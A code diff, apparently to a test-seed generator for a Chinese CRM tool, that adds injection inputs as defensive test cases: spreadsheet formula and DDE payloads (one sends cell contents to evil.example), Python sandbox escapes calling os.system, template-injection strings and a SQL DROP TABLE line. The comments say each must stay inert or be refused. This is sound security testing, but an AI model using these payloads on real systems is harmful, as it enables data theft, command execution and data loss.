@@ -88,6 +88,9 @@ CHAT_COMMANDS = (
     "+86 139 1234 5678 转 8001", "0512-6688 1234", "苏州恒锐精密机械有限公司（集团）", "王建国 经理",
     "王经理 10:01\n您好，设备到了吗\n李娜 2026-05-19 10:02\n明天发货",
     "accept:c0123456789::", "fuok:c0123456789:x:0123456789abcdef0123",
+    # formula injection: must stay inert text everywhere
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1 进入 报价", "-2+3 健康分", "建商机 =1+1 金额 50万",
 )
 
 
@@ -215,7 +218,10 @@ def formulas() -> list[str]:
         for match in re.finditer(r"\| `([^`|]*\([^`|]*)` \|", path.read_text(encoding="utf-8")):
             found.append(match.group(1))
     found += ["签约日期 >= DATE(\"2026-01-01\") AND 已认证", "DAYS(TODAY(), 签约日期) / 7", "行业 NOT IN ('电子', 「汽车」)",
-              "ABS(a - b) ÷ 2 ≥ 1", "`a` * 1.5万 - b % 3", "CONTAINS(行业, “机械”) || !已认证", "IF(a > 0, b / a, 0)"]
+              "ABS(a - b) ÷ 2 ≥ 1", "`a` * 1.5万 - b % 3", "CONTAINS(行业, “机械”) || !已认证", "IF(a > 0, b / a, 0)",
+              # injection attempts: refused with a FormulaError, never evaluated as Python or Excel
+              "__import__('os').system('id')", "a.__class__.__mro__", "=HYPERLINK(\"http://x\")", "eval(\"1\")",
+              "{{7*7}}", "${a}", "a; DROP TABLE leads", "lambda: 1"]
     return list(dict.fromkeys(found))
 
 
@@ -248,6 +254,8 @@ def config_seeds() -> None:
             _write("config_parse", f"docs-{path.stem}-{number:02d}-alone", block.encode())
             number += 1
     _write("config_parse", "bad-formula", (template + '\n[scoring.health]\nformula = "IF(跟进次数>, 1"\n').encode())
+    _write("config_parse", "formula-injection", (template + "\n[scoring.health]\nformula = \"__import__('os').system('id')\"\n"
+                                                 '[scoring.lead]\nformula = "=HYPERLINK(\\"http://x\\")"\n').encode())
 
 
 def extract_seeds() -> None:
